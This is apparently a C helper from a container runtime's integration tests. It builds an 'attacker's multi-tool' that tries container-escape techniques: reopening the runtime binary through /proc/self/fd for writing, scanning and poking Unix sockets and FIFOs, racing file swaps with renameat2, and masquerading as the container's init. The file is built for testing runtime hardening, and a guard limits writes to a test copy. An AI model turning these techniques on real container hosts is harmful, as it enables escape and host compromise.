// The attacker's multi-tool, compiled with `gcc -static` by test/integration/attacks/attack-helpers.ts
// into a bundle's rootfs (or a host directory, to run as an unprivileged host
// user). Every mode is bounded in time; every step it takes is appended to a
// log so that a test can say how far an attack got.
//
//   tool stage2 LOG SECONDS MUST       exe overwrite, stage 2: fd 100 is an O_PATH fd to a
//                                      runtime binary; keep trying to reopen it for writing
//   tool reopen PATH LOG SECONDS MUST  the same for PATH (e.g. /proc/1/exe) opened here
//   tool poke LOG MSG PATH...          FIFOs: open for reading and for writing (non-blocking,
//                                      held 300 ms); sockets: connect, send MSG, log the reply
//   tool sockscan DIR SECONDS MSG LOG [PATH...]
//                                      during SECONDS, connect to every socket under DIR
//                                      (depth 3) and to each PATH (names guessed in a
//                                      directory that cannot be listed), send MSG, log
//   tool swap A B SECONDS              renameat2(RENAME_EXCHANGE) A and B in a loop
//   tool masquerade SELF zero|none     as the container's pid 1: put /dev/zero at fd 1001
//                                      (where init parks its channel) or not, then re-exec
//                                      SELF with init's argv ("/proc/self/fd/5 init 7"):
//                                      same pid, same start time, an argv like lxcri's init
//   tool init N                        what that argv runs: sleeps (600 s at most)
//
// MUST: the reopen/stage2 modes write into the target only when its path
// (readlink of the fd) contains MUST, so a mistake in a test can never make
// them write into any binary but the throw-away copy the test installed.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int logfd = 2;

static void logf_(const char *fmt, ...) {
  char buf[2048];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
  buf[n++] = '\n';
  (void)!write(logfd, buf, n);
}

static void openlog_(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
  if (fd >= 0) logfd = fd;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void msleep(int ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&ts, 0);
}

// Reopen /proc/self/fd/<fd> for writing until it works or `seconds` pass.
static int overwrite(int fd, double seconds, const char *must) {
  char link[64], target[4096];
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(link, target, sizeof target - 1);
  target[n < 0 ? 0 : n] = 0;
  logf_("target %s", n < 0 ? strerror(errno) : target);
  double end = now() + seconds;
  int last = -1;
  while (now() < end) {
    int w = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w >= 0) {
      logf_("OPENED-FOR-WRITE %s", target);
      if (!strstr(target, must)) {
        logf_("not writing: %s is not the attack's copy (no %s in its path)", target, must);
      } else {
        const char mark[] = "\nLXCRI-ATTACK-OVERWRITE\n";
        if (write(w, mark, sizeof mark - 1) == (ssize_t)sizeof mark - 1) logf_("WROTE into %s", target);
        else logf_("write failed: %s", strerror(errno));
      }
      close(w);
      return 0;
    }
    if (errno != last) {
      logf_("open for write: %s", strerror(errno));
      last = errno;
    }
    if (errno != ETXTBSY) break; // only "text file busy" can change by waiting
    msleep(10);
  }
  logf_("gave up");
  return 1;
}

static int send_and_log(const char *path, const char *msg) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) {
    logf_("connect %s: %s", path, strerror(errno));
    close(s);
    return 0;
  }
  logf_("CONNECTED %s", path);
  ssize_t w = write(s, msg, strlen(msg));
  logf_("sent %zd bytes to %s", w, path);
  struct pollfd p = {s, POLLIN, 0};
  if (poll(&p, 1, 3000) > 0) {
    char buf[512];
    ssize_t r = read(s, buf, sizeof buf - 1);
    buf[r < 0 ? 0 : r] = 0;
    for (char *c = buf; *c; c++)
      if (*c == '\n') *c = ' ';
    logf_("reply from %s: %s", path, buf);
  }
  close(s);
  return 1;
}

static int poke(const char *msg, char **paths) {
  for (; *paths; paths++) {
    struct stat st;
    if (stat(*paths, &st) != 0) { // follows links: /proc/<pid>/fd/N too
      logf_("stat %s: %s", *paths, strerror(errno));
      continue;
    }
    if (S_ISFIFO(st.st_mode)) {
      int r = open(*paths, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
      logf_("fifo %s read-open: %s", *paths, r >= 0 ? "OPENED" : strerror(errno));
      int w = open(*paths, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
      logf_("fifo %s write-open: %s", *paths, w >= 0 ? "OPENED" : strerror(errno));
      if (w >= 0) (void)!write(w, msg, strlen(msg));
      msleep(300);
      if (r >= 0) close(r);
      if (w >= 0) close(w);
    } else if (S_ISSOCK(st.st_mode)) {
      send_and_log(*paths, msg);
    } else {
      logf_("%s: neither a FIFO nor a socket", *paths);
    }
  }
  return 0;
}

static void scan(const char *dir, int depth, const char *msg, int *hits) {
  DIR *d = opendir(dir);
  if (!d) return;
  struct dirent *e;
  while ((e = readdir(d))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
    struct stat st;
    if (lstat(p, &st) != 0) continue;
    if (S_ISSOCK(st.st_mode)) *hits += send_and_log(p, msg);
    else if (S_ISDIR(st.st_mode) && depth > 0) scan(p, depth - 1, msg, hits);
  }
  closedir(d);
}

int main(int argc, char **argv) {
  if (argc == 3 && !strcmp(argv[1], "init")) {
    for (int i = 0; i < 600; i++) sleep(1);
    return 0;
  }
  if (argc >= 4 && !strcmp(argv[1], "masquerade")) {
    if (!strcmp(argv[3], "zero")) {
      int z = open("/dev/zero", O_RDONLY);
      if (z < 0 || dup2(z, 1001) < 0) return 1;
    }
    char *args[] = {"/proc/self/fd/5", "init", "7", NULL};
    execv(argv[2], args);
    return 1;
  }
  if (argc >= 5 && !strcmp(argv[1], "stage2")) {
    openlog_(argv[2]);
    logf_("stage2 running as uid %d", getuid());
    return overwrite(100, atof(argv[3]), argv[4]) ? 1 : 0;
  }
  if (argc >= 6 && !strcmp(argv[1], "reopen")) {
    openlog_(argv[3]);
    int fd = open(argv[2], O_PATH | O_CLOEXEC);
    if (fd < 0) {
      logf_("open %s O_PATH: %s", argv[2], strerror(errno));
      return 1;
    }
    logf_("opened %s O_PATH", argv[2]);
    return overwrite(fd, atof(argv[4]), argv[5]);
  }
  if (argc >= 4 && !strcmp(argv[1], "poke")) {
    openlog_(argv[2]);
    return poke(argv[3], argv + 4);
  }
  if (argc >= 6 && !strcmp(argv[1], "sockscan")) {
    openlog_(argv[5]);
    double end = now() + atof(argv[3]);
    int hits = 0;
    while (now() < end) {
      scan(argv[2], 3, argv[4], &hits);
      for (int i = 6; i < argc; i++) {
        struct stat st;
        if (stat(argv[i], &st) == 0 && S_ISSOCK(st.st_mode)) hits += send_and_log(argv[i], argv[4]);
      }
      msleep(5);
    }
    logf_("sockscan done, %d connections", hits);
    return 0;
  }
  if (argc >= 5 && !strcmp(argv[1], "swap")) {
    double end = now() + atof(argv[4]);
    long n = 0;
    while (now() < end) {
      for (int i = 0; i < 1000; i++)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */) == 0) n++;
    }
    fprintf(stderr, "swapped %ld times\n", n);
    return 0;
  }
  fprintf(stderr, "usage: tool stage2|reopen|poke|sockscan|swap|masquerade|init ...\n");
  return 2;
}
